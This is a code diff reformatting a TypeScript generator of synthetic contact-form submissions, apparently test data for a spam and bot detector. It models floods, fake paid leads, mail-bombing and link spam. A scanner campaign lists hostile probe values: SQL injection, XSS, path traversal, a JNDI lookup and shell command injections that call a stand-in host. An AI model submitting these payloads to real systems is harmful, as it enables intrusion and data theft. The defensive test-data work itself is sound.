-        return { first_name: first, last_name: last, email: `${latinLetters(first)}${latinLetters(last)}${dice.digits(4)}@gmail.example`, phone_number: dice.digits(10), from_message: write(dice, '{Hello|Hi|Hey}, I {am interested in|want to know about|have a question about} your {services|offers|company}. {Please|Kindly} {contact|call|reply to} me.') };
+        return {
+          first_name: first,
+          last_name: last,
+          email: `${latinLetters(first)}${latinLetters(last)}${dice.digits(4)}@gmail.example`,
+          phone_number: dice.digits(10),
+          from_message: write(
+            dice,
+            '{Hello|Hi|Hey}, I {am interested in|want to know about|have a question about} your {services|offers|company}. {Please|Kindly} {contact|call|reply to} me.',
+          ),
+        };
       },
     },
     {
       // A Go program behind residential proxies, a post every half hour or so.
-      posts: 26, from: 600, until: 85_000,
+      posts: 26,
+      from: 600,
+      until: 85_000,
       network: () => (dice.chance(0.5) ? homeNetwork(dice) : foreignNetwork(dice)),
       page: () => null,
-      headers: () => ({ 'user-agent': dice.chance(0.5) ? 'Go-http-client/1.1' : oldChrome(dice), 'accept-encoding': 'gzip' }),
-      fields: () => ({ first_name: dice.letters(dice.between(5, 9)), last_name: dice.letters(dice.between(5, 9)), email: `${dice.letters(8)}@${dice.one(['mail.test', 'inbox.test', 'gmail.example'])}`, from_message: Array.from({ length: dice.between(3, 12) }, () => dice.letters(dice.between(3, 11))).join(' ') }),
+      headers: () => ({
+        'user-agent': dice.chance(0.5) ? 'Go-http-client/1.1' : oldChrome(dice),
+        'accept-encoding': 'gzip',
+      }),
+      fields: () => ({
+        first_name: dice.letters(dice.between(5, 9)),
+        last_name: dice.letters(dice.between(5, 9)),
+        email: `${dice.letters(8)}@${dice.one(['mail.test', 'inbox.test', 'gmail.example'])}`,
+        from_message: Array.from({ length: dice.between(3, 12) }, () => dice.letters(dice.between(3, 11))).join(' '),
+      }),
     },
     {
       // A headless browser that loads everything, runs the script and types lorem ipsum.
-      posts: 24, from: 70_000, until: 74_000,
+      posts: 24,
+      from: 70_000,
+      until: 74_000,
       network: () => dice.one(['138.68.12.40', '138.68.12.41', '138.68.12.44']),
       page: () => ({ seconds: dice.between(2, 7), script: true, work: 'done', trapped: dice.chance(0.3) }),
       headers: () => {
         const browser = chrome(dice, 'windows', 'Google Chrome', 131);
-        const hints = { 'sec-ch-ua': '"HeadlessChrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"', 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': '"Linux"' };
-        return browserHeaders({ ...browser, hints, agent: browser.agent.replace('Windows NT 10.0; Win64; x64', 'X11; Linux x86_64').replace('Chrome/', 'HeadlessChrome/') }, { languages: 'en-US', without: dice.chance(0.5) ? ['language'] : [] });
+        const hints = {
+          'sec-ch-ua': '"HeadlessChrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
+          'sec-ch-ua-mobile': '?0',
+          'sec-ch-ua-platform': '"Linux"',
+        };
+        return browserHeaders(
+          {
+            ...browser,
+            hints,
+            agent: browser.agent
+              .replace('Windows NT 10.0; Win64; x64', 'X11; Linux x86_64')
+              .replace('Chrome/', 'HeadlessChrome/'),
+          },
+          { languages: 'en-US', without: dice.chance(0.5) ? ['language'] : [] },
+        );
       },
-      fields: () => ({ first_name: dice.one(firstNames), last_name: dice.one(lastNames), email: `${dice.one(lorem)}.${dice.one(lorem)}@${dice.one(lorem)}.example`, phone_number: phone(dice), from_message: loremText(dice, dice.between(8, 60)) }),
+      fields: () => ({
+        first_name: dice.one(firstNames),
+        last_name: dice.one(lastNames),
+        email: `${dice.one(lorem)}.${dice.one(lorem)}@${dice.one(lorem)}.example`,
+        phone_number: phone(dice),
+        from_message: loremText(dice, dice.between(8, 60)),
+      }),
     },
     {
       // One fetched page whose token is sent over and over.
-      posts: 24, from: onceFetched, until: onceFetched + 9000,
+      posts: 24,
+      from: onceFetched,
+      until: onceFetched + 9000,
       network: () => (dice.chance(0.8) ? replay : rentedServer(dice)),
-      page: (_, at) => ({ seconds: at - onceFetched + 3, script: false, work: 'missing', trapped: true, shared: 'second half: replayed page' }),
+      page: (_, at) => ({
+        seconds: at - onceFetched + 3,
+        script: false,
+        work: 'missing',
+        trapped: true,
+        shared: 'second half: replayed page',
+      }),
       headers: () => pretended(dice),
-      fields: (post) => ({ first_name: `${dice.one(firstNames)}${dice.letters(3)}`, last_name: `${dice.one(lastNames)}${dice.letters(3)}`, email: `lead${post}.${dice.digits(5)}@yahoo.example`, phone_number: `8${dice.digits(10)}`, from_message: `${dice.one(['Good day', 'Hello!', 'Hi'])} ${loremText(dice, 6)} ${dice.digits(6)}` }),
+      fields: (post) => ({
+        first_name: `${dice.one(firstNames)}${dice.letters(3)}`,
+        last_name: `${dice.one(lastNames)}${dice.letters(3)}`,
+        email: `lead${post}.${dice.digits(5)}@yahoo.example`,
+        phone_number: `8${dice.digits(10)}`,
+        from_message: `${dice.one(['Good day', 'Hello!', 'Hi'])} ${loremText(dice, 6)} ${dice.digits(6)}`,
+      }),
     },
     {
       // Invented leads that somebody is paid for: stealth browsers, residential proxies, unhurried, spread over the day.
-      posts: 28, from: 25_000, until: 82_000,
+      posts: 28,
+      from: 25_000,
+      until: 82_000,
       network: () => homeNetwork(dice),
       page: () => ({ seconds: dice.between(14, 75), script: true, work: 'done', trapped: false }),
-      headers: () => browserHeaders(dice.chance(0.5) ? chrome(dice, 'windows') : chrome(dice, 'android'), manners(dice, 'en-US,en;q=0.9', true)),
+      headers: () =>
+        browserHeaders(
+          dice.chance(0.5) ? chrome(dice, 'windows') : chrome(dice, 'android'),
+          manners(dice, 'en-US,en;q=0.9', true),
+        ),
       fields: () => {
         const first = dice.one(firstNames);
         const last = dice.one(lastNames);
@@ -1587,51 +2186,116 @@ function floodCampaigns(dice: Dice): Campaign[] {
           last_name: last,
           email: `${latinLetters(first)}.${latinLetters(last)}${dice.digits(2)}@${dice.one(mailHosts)}`,
           phone_number: phone(dice),
-          from_message: write(dice, `{I was|My brother was|My wife was} {involved in|hurt in|injured in} a ${fakeHurt.deal()} {on <date>|recently|last month} {in|near} <city>. {I am looking for|I need|We are seeking} {an attorney|a lawyer|legal representation} to {help with my claim|get compensation|handle my case}. {Please contact me|Please call|Reach out} {at your earliest convenience|as soon as possible|any time}.`),
+          from_message: write(
+            dice,
+            `{I was|My brother was|My wife was} {involved in|hurt in|injured in} a ${fakeHurt.deal()} {on <date>|recently|last month} {in|near} <city>. {I am looking for|I need|We are seeking} {an attorney|a lawyer|legal representation} to {help with my claim|get compensation|handle my case}. {Please contact me|Please call|Reach out} {at your earliest convenience|as soon as possible|any time}.`,
+          ),
         };
       },
     },
     {
       // A Node program that has seen the form's hidden fields and makes up what it cannot compute.
-      posts: 18, from: 78_000, until: 80_400,
+      posts: 18,
+      from: 78_000,
+      until: 80_400,
       network: () => (dice.chance(0.5) ? '91.210.44.7' : foreignNetwork(dice)),
       page: () => ({ seconds: dice.between(1, 5), script: true, work: 'made up', trapped: false }),
-      headers: () => ({ 'user-agent': chrome(dice, 'windows').agent, accept: 'application/json, text/plain, */*', origin: foyer, referer: formPage, 'accept-language': '*', 'sec-fetch-mode': 'cors', 'accept-encoding': 'gzip, deflate' }),
-      fields: () => ({ first_name: dice.one(firstNames), last_name: dice.one(lastNames), email: `${dice.letters(10)}@outlook.example`, phone_number: phone(dice), from_message: write(dice, '{I want|I need|I require} {a consultation|an appointment|advice} {regarding|about|on} {my case|a legal matter|the matter we spoke of}. Ref <digits>') }),
+      headers: () => ({
+        'user-agent': chrome(dice, 'windows').agent,
+        accept: 'application/json, text/plain, */*',
+        origin: foyer,
+        referer: formPage,
+        'accept-language': '*',
+        'sec-fetch-mode': 'cors',
+        'accept-encoding': 'gzip, deflate',
+      }),
+      fields: () => ({
+        first_name: dice.one(firstNames),
+        last_name: dice.one(lastNames),
+        email: `${dice.letters(10)}@outlook.example`,
+        phone_number: phone(dice),
+        from_message: write(
+          dice,
+          '{I want|I need|I require} {a consultation|an appointment|advice} {regarding|about|on} {my case|a legal matter|the matter we spoke of}. Ref <digits>',
+        ),
+      }),
     },
     {
       // A scanner that looks for holes.
-      posts: 20, from: 14_000, until: 14_900,
+      posts: 20,
+      from: 14_000,
+      until: 14_900,
       network: () => '193.32.126.18',
       page: (post) => (post % 4 === 0 ? { seconds: 0, script: false, work: 'missing', trapped: true } : null),
-      headers: () => ({ 'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21', accept: '*/*', referer: formPage }),
+      headers: () => ({
+        'user-agent':
+          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21',
+        accept: '*/*',
+        referer: formPage,
+      }),
       fields: (post) => {
         const probes = [
-          "' OR '1'='1' -- ", '<script>alert(9041)</script>', '../../../../etc/passwd', '${jndi:ldap://x.scan.test/a}', '{{7*7}}', "1'\"()&%<acx><ScRiPt >prompt(1)</ScRiPt>", ';sleep 15;', '1 AND SLEEP(15)',
-          'response.write(9233*9871)', '%0d%0aset-cookie:acx=1', '"><img src=x onerror=alert(1)>', '-1 OR 2+14-14-1=0+0+0+1', '|cat /etc/hosts', '@@version', 'http://scan.test/inc?', '$(nslookup x.scan.test)',
+          "' OR '1'='1' -- ",
+          '<script>alert(9041)</script>',
+          '../../../../etc/passwd',
+          '${jndi:ldap://x.scan.test/a}',
+          '{{7*7}}',
+          '1\'"()&%<acx><ScRiPt >prompt(1)</ScRiPt>',
+          ';sleep 15;',
+          '1 AND SLEEP(15)',
+          'response.write(9233*9871)',
+          '%0d%0aset-cookie:acx=1',
+          '"><img src=x onerror=alert(1)>',
+          '-1 OR 2+14-14-1=0+0+0+1',
+          '|cat /etc/hosts',
+          '@@version',
+          'http://scan.test/inc?',
+          '$(nslookup x.scan.test)',
         ];
         const probe = probes[post % probes.length] ?? '1';
-        return { first_name: post % 3 === 0 ? probe : 'pHqghUme', last_name: post % 3 === 1 ? probe : 'pHqghUme', email: 'testing@scan.test', phone_number: '555-666-0606', from_message: post % 3 === 2 ? probe : '20' };
+        return {
+          first_name: post % 3 === 0 ? probe : 'pHqghUme',
+          last_name: post % 3 === 1 ? probe : 'pHqghUme',
+          email: 'testing@scan.test',
+          phone_number: '555-666-0606',
+          from_message: post % 3 === 2 ? probe : '20',
+        };
       },
     },
     {
       // Random letters in every field, the hidden one too, sent through proxies all day.
-      posts: 26, from: 1200, until: 86_000,
+      posts: 26,
+      from: 1200,
+      until: 86_000,
       network: () => (dice.chance(0.3) ? homeNetwork(dice) : foreignNetwork(dice)),
       page: () => ({ seconds: dice.between(1, 25), script: false, work: 'missing', trapped: dice.chance(0.85) }),
       headers: () => pretended(dice),
       fields: (post) => {
         const [first, last] = gibberishPairs[post % gibberishPairs.length] ?? ['x', 'y'];
-        return { first_name: first, last_name: last, email: `${dice.letters(2)}.${dice.letters(3)}.${dice.letters(2)}.${dice.letters(2)}${dice.digits(2)}@gmail.example`, phone_number: dice.digits(10), from_message: mixedCase(dice, dice.between(10, 24)) };
+        return {
+          first_name: first,
+          last_name: last,
+          email: `${dice.letters(2)}.${dice.letters(3)}.${dice.letters(2)}.${dice.letters(2)}${dice.digits(2)}@gmail.example`,
+          phone_number: dice.digits(10),
+          from_message: mixedCase(dice, dice.between(10, 24)),
+        };
       },
     },
     {
       // Bots that bomb somebody's mailbox with the confirmations of every form they know.
-      posts: 16, from: 60_300, until: 60_900,
+      posts: 16,
+      from: 60_300,
+      until: 60_900,
       network: () => foreignNetwork(dice),
-      page: (post) => (post % 2 === 0 ? { seconds: dice.between(1, 4), script: false, work: 'missing', trapped: false } : null),
+      page: (post) =>
+        post % 2 === 0 ? { seconds: dice.between(1, 4), script: false, work: 'missing', trapped: false } : null,
       headers: () => pretended(dice),
-      fields: () => ({ first_name: dice.one(['a', 'John', 'x', dice.letters(6)]), last_name: dice.one(['b', 'Doe', dice.letters(6)]), email: dice.one(['r.hallorann@hallorann.example', 'r.hallorann@hallorann.example', 'office@hallorann.example']), from_message: dice.one(['subscribe', 'yes', 'info', dice.letters(9), 'ok']) }),
+      fields: () => ({
+        first_name: dice.one(['a', 'John', 'x', dice.letters(6)]),
+        last_name: dice.one(['b', 'Doe', dice.letters(6)]),
+        email: dice.one(['r.hallorann@hallorann.example', 'r.hallorann@hallorann.example', 'office@hallorann.example']),
+        from_message: dice.one(['subscribe', 'yes', 'info', dice.letters(9), 'ok']),
+      }),
     },
   ];
 }
@@ -1641,7 +2305,14 @@ function floods(dice: Dice): MadeUp[] {
   return campaigns.flatMap((campaign) =>
     Array.from({ length: campaign.posts }, (_, post): MadeUp => {
       const at = dice.between(campaign.from, campaign.until);
-      return { kind: 'scripted flood', at, network: campaign.network(post), page: campaign.page(post, at), headers: campaign.headers(post), fields: campaign.fields(post) };
+      return {
+        kind: 'scripted flood',
+        at,
+        network: campaign.network(post),
+        page: campaign.page(post, at),
+        headers: campaign.headers(post),
+        fields: campaign.fields(post),
+      };
     }),
   );
 }
@@ -1817,27 +2488,68 @@ const pitches: Record<string, Pitch> = {
 };
 
 // Many advertise from names that say nothing, or from pages on other people's hosts.
-const plainHosts = 'sites.pagehost.example,click.trk-go.example,qzrd.test,medium-posts.example,storage.cloudbucket.example,lp.getstarted.example,northwindteam.example,harborandco.example,calendly-like.example,forms.gdocs-like.example'.split(',');
-const spamNames = 'Neha Sharma,Rohit Verma,Anjali Gupta,Vikram Singh,Aarti Mehta,Ankit Jain,Shahid Khan,Md Rahman,Rakib Hasan,Joy Reyes,Mark Villanueva,Ayesha Malik,Bilal Ahmed,Olena P,Igor Volkov,Sergey M,Lily Chen,Tony Zhang,Chidi Eze,Grace Mwangi,Emma Watts,Steve Collier,Alex Gray,Sophie Lane'.split(',');
+const plainHosts =
+  'sites.pagehost.example,click.trk-go.example,qzrd.test,medium-posts.example,storage.cloudbucket.example,lp.getstarted.example,northwindteam.example,harborandco.example,calendly-like.example,forms.gdocs-like.example'.split(
+    ',',
+  );
+const spamNames =
+  'Neha Sharma,Rohit Verma,Anjali Gupta,Vikram Singh,Aarti Mehta,Ankit Jain,Shahid Khan,Md Rahman,Rakib Hasan,Joy Reyes,Mark Villanueva,Ayesha Malik,Bilal Ahmed,Olena P,Igor Volkov,Sergey M,Lily Chen,Tony Zhang,Chidi Eze,Grace Mwangi,Emma Watts,Steve Collier,Alex Gray,Sophie Lane'.split(
+    ',',
+  );
 
 function spamLink(dice: Dice, advertised: string): string {
   const host = dice.chance(0.35) ? dice.one(plainHosts) : advertised;
-  const path = dice.one(['', '/', '/offer', `/?utm_source=form&id=${dice.digits(5)}`, `/${dice.code(6)}`, '/en/start.html', `/go.php?s=${dice.code(8)}`, `/blog/${dice.one(slugWords)}-${dice.one(slugWords)}`]);
+  const path = dice.one([
+    '',
+    '/',
+    '/offer',
+    `/?utm_source=form&id=${dice.digits(5)}`,
+    `/${dice.code(6)}`,
+    '/en/start.html',
+    `/go.php?s=${dice.code(8)}`,
+    `/blog/${dice.one(slugWords)}-${dice.one(slugWords)}`,
+  ]);
   const named = dice.one([host, host, `www.${host}`, `${dice.letters(4)}.${host}`]);
-  return dice.one([`https://${named}${path}`, `http://${named}${path}`, `${named}${path}`, `https://${named}${path}`, host.replaceAll('.', dice.one(['.', ' . ', ' dot ', '[.]', '.']))]);
+  return dice.one([
+    `https://${named}${path}`,
+    `http://${named}${path}`,
+    `${named}${path}`,
+    `https://${named}${path}`,
+    host.replaceAll('.', dice.one(['.', ' . ', ' dot ', '[.]', '.'])),
+  ]);
 }
 
 function chat(dice: Dice): string {
   const nick = `${dice.one(['boss', 'admin', 'seo', 'pro', 'vip', 'help'])}_${dice.letters(5)}`;
-  return dice.one([`https://t-me.example/${nick}`, `@${nick}`, `https://wa-me.example/${dice.digits(11)}`, `+${dice.one(['91', '44', '1', '7', '86', '234'])} ${dice.digits(9)}`, `t-me.example/${nick}`]);
+  return dice.one([
+    `https://t-me.example/${nick}`,
+    `@${nick}`,
+    `https://wa-me.example/${dice.digits(11)}`,
+    `+${dice.one(['91', '44', '1', '7', '86', '234'])} ${dice.digits(9)}`,
+    `t-me.example/${nick}`,
+  ]);
 }
 
 /** Writes links in one markup, as bots do that cannot know what a form renders. */
 function manyLinks(dice: Dice, host: string): string {
-  const count = dice.weighted<number>([[5, 1], [4, 2], [3, 3], [2, 6], [1, 12]]);
+  const count = dice.weighted<number>([
+    [5, 1],
+    [4, 2],
+    [3, 3],
+    [2, 6],
+    [1, 12],
+  ]);
   const markup = dice.one(['html', 'bbcode', 'plain', 'both', 'markdown']);
   return Array.from({ length: count }, () => {
-    const word = dice.one(['click here', 'visit', 'cheap', 'best price', 'more info', dice.letters(7), host.replace(/\..*/, '')]);
+    const word = dice.one([
+      'click here',
+      'visit',
+      'cheap',
+      'best price',
+      'more info',
+      dice.letters(7),
+      host.replace(/\..*/, ''),
+    ]);
     const url = `http${dice.chance(0.7) ? 's' : ''}://${host}/${dice.code(7)}`;
     const html = `<a href="${url}">${word}</a>`;
     const code = `[url=${url}]${word}[/url]`;
@@ -1853,7 +2565,11 @@ function pitchText(dice: Dice, host: string, template: string): string {
   return write(dice, template)
     .replaceAll('<links>', () => manyLinks(dice, host))
     .replaceAll('<link>', () => spamLink(dice, host))
-    .replaceAll('<short>', () => `${dice.one(['https://bit-ly.example/', 'https://cutt-ly.example/', 'tinyurl-go.example/', 'https://is-gd.example/'])}${dice.code(6)}`)
+    .replaceAll(
+      '<short>',
+      () =>
+        `${dice.one(['https://bit-ly.example/', 'https://cutt-ly.example/', 'tinyurl-go.example/', 'https://is-gd.example/'])}${dice.code(6)}`,
+    )
     .replaceAll('<chat>', () => chat(dice));
 }
 
@@ -1867,14 +2583,40 @@ interface SpamSender {
 /** Makes up who sends an advertisement: paid people in browsers, or one of the kinds of programs sold for it. */
 function spamSender(dice: Dice, byHand: boolean, own?: string): SpamSender {
   if (byHand) {
-    const home = dice.weighted<() => string>([[6, () => foreignNetwork(dice)], [2, () => dice.one(vpnExits)], [2, () => homeNetwork(dice)]])();
-    const browser = dice.weighted<() => Browser>([[7, () => chrome(dice, 'windows')], [1, () => firefox(dice, 'Windows NT 10.0; Win64; x64')], [1, () => chrome(dice, 'android')], [1, () => chrome(dice, 'mac')]])();
-    const languages = own ?? dice.one(['en-US,en;q=0.9', 'en-IN,en-GB;q=0.9,en-US;q=0.8,en;q=0.7', 'en-GB,en;q=0.9', 'en-US,en;q=0.9,ru;q=0.8', 'en-PH,en;q=0.9']);
+    const home = dice.weighted<() => string>([
+      [6, () => foreignNetwork(dice)],
+      [2, () => dice.one(vpnExits)],
+      [2, () => homeNetwork(dice)],
+    ])();
+    const browser = dice.weighted<() => Browser>([
+      [7, () => chrome(dice, 'windows')],
+      [1, () => firefox(dice, 'Windows NT 10.0; Win64; x64')],
+      [1, () => chrome(dice, 'android')],
+      [1, () => chrome(dice, 'mac')],
+    ])();
+    const languages =
+      own ??
+      dice.one([
+        'en-US,en;q=0.9',
+        'en-IN,en-GB;q=0.9,en-US;q=0.8,en;q=0.7',
+        'en-GB,en;q=0.9',
+        'en-US,en;q=0.9,ru;q=0.8',
+        'en-PH,en;q=0.9',
+      ]);
     return {
       byHand,
       network: () => home,
       headers: () => browserHeaders(browser, manners(dice, languages, true)),
-      page: () => ({ seconds: dice.weighted<() => number>([[5, () => dice.between(12, 45)], [4, () => dice.between(46, 180)], [1, () => dice.between(181, 1500)]])(), script: true, work: 'done', trapped: false }),
+      page: () => ({
+        seconds: dice.weighted<() => number>([
+          [5, () => dice.between(12, 45)],
+          [4, () => dice.between(46, 180)],
+          [1, () => dice.between(181, 1500)],
+        ])(),
+        script: true,
+        work: 'done',
+        trapped: false,
+      }),
     };
   }
   const server = rentedServer(dice);
@@ -1882,21 +2624,73 @@ function spamSender(dice: Dice, byHand: boolean, own?: string): SpamSender {
   const network = dice.chance(0.5) ? (): string => server : proxied;
   return dice.weighted<SpamSender>([
     [4, { byHand, network, headers: () => pretended(dice), page: () => null }],
-    [5, { byHand, network, headers: () => pretended(dice), page: () => ({ seconds: dice.between(0, 20), script: false, work: 'missing', trapped: dice.chance(0.6) }) }],
-    [1, { byHand, network, headers: () => ({ 'user-agent': dice.one(['python-requests/2.28.1', 'Go-http-client/2.0', 'okhttp/4.9.3', 'axios/1.6.2', 'Java/1.8.0_292', 'Scrapy/2.11 (+https://scrapy.example)']), accept: '*/*' }), page: () => null }],
+    [
+      5,
+      {
+        byHand,
+        network,
+        headers: () => pretended(dice),
+        page: () => ({ seconds: dice.between(0, 20), script: false, work: 'missing', trapped: dice.chance(0.6) }),
+      },
+    ],
+    [
+      1,
+      {
+        byHand,
+        network,
+        headers: () => ({
+          'user-agent': dice.one([
+            'python-requests/2.28.1',
+            'Go-http-client/2.0',
+            'okhttp/4.9.3',
+            'axios/1.6.2',
+            'Java/1.8.0_292',
+            'Scrapy/2.11 (+https://scrapy.example)',
+          ]),
+          accept: '*/*',
+        }),
+        page: () => null,
+      },
+    ],
     // Browsers that are steered by a program and do all that a page asks for.
-    [4, { byHand, network: proxied, headers: () => browserHeaders(chrome(dice, 'windows'), manners(dice, 'en-US,en;q=0.9', true)), page: () => ({ seconds: dice.between(3, 40), script: true, work: 'done', trapped: dice.chance(0.15) }) }],
-    [1, { byHand, network, headers: () => browserHeaders(chrome(dice, 'windows', 'Google Chrome', 109), { languages: 'en-US' }), page: () => ({ seconds: dice.between(1, 10), script: true, work: 'made up', trapped: dice.chance(0.3) }) }],
+    [
+      4,
+      {
+        byHand,
+        network: proxied,
+        headers: () => browserHeaders(chrome(dice, 'windows'), manners(dice, 'en-US,en;q=0.9', true)),
+        page: () => ({ seconds: dice.between(3, 40), script: true, work: 'done', trapped: dice.chance(0.15) }),
+      },
+    ],
+    [
+      1,
+      {
+        byHand,
+        network,
+        headers: () => browserHeaders(chrome(dice, 'windows', 'Google Chrome', 109), { languages: 'en-US' }),
+        page: () => ({ seconds: dice.between(1, 10), script: true, work: 'made up', trapped: dice.chance(0.3) }),
+      },
+    ],
   ]);
 }
 
 function spamFields(dice: Dice, sender: SpamSender, message: string, host: string): Fields {
-  const [first = '', last = ''] = dice.chance(sender.byHand ? 0.6 : 0.25) ? dice.one(spamNames).split(' ') : [dice.one(firstNames), dice.one(lastNames)];
+  const [first = '', last = ''] = dice.chance(sender.byHand ? 0.6 : 0.25)
+    ? dice.one(spamNames).split(' ')
+    : [dice.one(firstNames), dice.one(lastNames)];
   const business = host.replace(/\..*/, '');
   const botName = `${first}${dice.one(['nof', 'Sab', 'tug', 'Pruro', 'hok', 'Diarp', 'Wep', 'bam'])}`;
   const naming = sender.byHand
-    ? dice.weighted<'person' | 'business'>([[8, 'person'], [2, 'business']])
-    : dice.weighted<'person' | 'bot' | 'link' | 'business'>([[5, 'person'], [5, 'bot'], [1, 'link'], [2, 'business']]);
+    ? dice.weighted<'person' | 'business'>([
+        [8, 'person'],
+        [2, 'business'],
+      ])
+    : dice.weighted<'person' | 'bot' | 'link' | 'business'>([
+        [5, 'person'],
+        [5, 'bot'],
+        [1, 'link'],
+        [2, 'business'],
+      ]);
   const names = {
     person: [first, last],
     business: [dice.one([first, 'Marketing', 'Sales']), business],
@@ -1909,9 +2703,19 @@ function spamFields(dice: Dice, sender: SpamSender, message: string, host: strin
     email: dice.weighted([
       [5, `${latinLetters(first)}.${latinLetters(last)}${dice.digits(2)}@${dice.one(mailHosts)}`],
       [2, `${dice.one(['info', 'sales', 'hello', latinLetters(first)])}@${host}`],
-      [2, `${dice.letters(dice.between(5, 11))}@${dice.one(['mailbox.test', 'mail-ru.example', 'inbox-lv.example', 'gmail.example'])}`],
+      [
+        2,
+        `${dice.letters(dice.between(5, 11))}@${dice.one(['mailbox.test', 'mail-ru.example', 'inbox-lv.example', 'gmail.example'])}`,
+      ],
     ]),
-    ...(dice.chance(0.75) ? { phone_number: sender.byHand && dice.chance(0.5) ? phone(dice) : dice.one([`8${dice.digits(10)}`, dice.digits(11), phone(dice), '']) } : {}),
+    ...(dice.chance(0.75)
+      ? {
+          phone_number:
+            sender.byHand && dice.chance(0.5)
+              ? phone(dice)
+              : dice.one([`8${dice.digits(10)}`, dice.digits(11), phone(dice), '']),
+        }
+      : {}),
     from_message: message,
   };
 }
@@ -1928,11 +2732,22 @@ function linkSpam(dice: Dice): MadeUp[] {
     const host = dice.one(pitch.hosts);
     const sender = spamSender(dice, dice.chance(pitch.byHand), pitch.languages);
     // Most come once. Some senders come again the same day with the same text or a spun one.
-    const times = dice.weighted<number>([[7, 1], [2, 2], [1, sender.byHand ? 2 : dice.between(3, 8)]]);
+    const times = dice.weighted<number>([
+      [7, 1],
+      [2, 2],
+      [1, sender.byHand ? 2 : dice.between(3, 8)],
+    ]);
     const copied = dice.chance(0.3) ? pitchText(dice, host, template) : null;
     for (let time = 0; time < times && sent.length < perKind; time += 1) {
       const message = copied ?? pitchText(dice, host, template);
-      sent.push({ kind: 'link spam', at: dice.between(0, day - 1), network: sender.network(), page: sender.page(), headers: sender.headers(), fields: spamFields(dice, sender, message, host) });
+      sent.push({
+        kind: 'link spam',
+        at: dice.between(0, day - 1),
+        network: sender.network(),
+        page: sender.page(),
+        headers: sender.headers(),
+        fields: spamFields(dice, sender, message, host),
+      });
     }
   }
   return sent;
@@ -1942,11 +2757,17 @@ function linkSpam(dice: Dice): MadeUp[] {
 export function secondHalf(): MadeUp[] {
   const dice = new Dice(20_251_127);
   const writer = new People(dice);
-  const all = [...people(dice, writer, 'person with script'), ...people(dice, writer, 'person without script'), ...floods(dice), ...linkSpam(dice)];
+  const all = [
+    ...people(dice, writer, 'person with script'),
+    ...people(dice, writer, 'person without script'),
+    ...floods(dice),
+    ...linkSpam(dice),
+  ];
   const kinds: Kind[] = ['person with script', 'person without script', 'scripted flood', 'link spam'];
   for (const kind of kinds) {
     const count = all.filter((one) => one.kind === kind).length;
-    if (count !== perKind) throw new Error(`${count} submissions of the kind ${kind} were made up instead of ${perKind}`);
+    if (count !== perKind)
+      throw new Error(`${count} submissions of the kind ${kind} were made up instead of ${perKind}`);
   }
   return all.sort((one, other) => one.at - other.at);
 }
